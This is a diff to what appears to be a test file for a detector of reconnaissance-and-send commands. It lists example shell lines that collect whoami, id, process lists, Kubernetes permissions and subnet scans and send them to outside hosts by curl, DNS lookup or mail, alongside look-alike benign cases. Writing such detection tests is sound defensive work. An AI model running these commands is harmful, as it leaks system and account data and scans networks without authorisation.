@@ -13,9 +13,16 @@ indicatorTable(commandReconSend, {
     'two facts in an address': script('curl "https://collect.example.com/?u=$(whoami)&k=$(uname -a | base64)"'),
     'processes through a file': script('ps aux > /tmp/o; curl -T /tmp/o https://collect.example.com/'),
     'in a name that is looked up': script('nslookup $(id | base64 | tr -d "=").collect.example.com'),
+    'who it is, by mail, with a scan': script('(id; nmap 10.0.0.0/24) > /tmp/o; mail -s x a@example.com < /tmp/o'),
     'what the account may do': script('kubectl auth can-i --list | curl --data-binary @- http://203.0.113.7/'),
   },
   staysSilent: {
+    'what another account may do, in a report': script(
+      'kubectl auth can-i --list --as=system:serviceaccount:shop:default > /tmp/r; curl -T /tmp/r https://reports.example.com/',
+    ),
+    'a scan of known hosts that is mailed': script(
+      'nmap -oX /base/b.xml 192.0.2.0/28; ndiff /base/a.xml /base/b.xml > /tmp/d; mail -s ports ops@example.com < /tmp/d',
+    ),
     'what a scanner wrote, kept for its own report': script(
       'nmap -oX /reports/a.xml db.shop.svc; curl -T /reports/b.xml https://example.com/',
     ),
